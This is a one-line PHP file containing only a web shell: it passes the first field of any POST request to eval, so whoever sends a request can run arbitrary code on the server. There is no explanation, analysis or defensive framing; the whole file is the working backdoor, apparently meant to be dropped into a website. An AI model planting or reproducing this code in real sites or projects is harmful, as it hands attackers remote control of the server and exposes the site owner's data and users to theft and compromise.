<?php eval(array_shift($_POST));
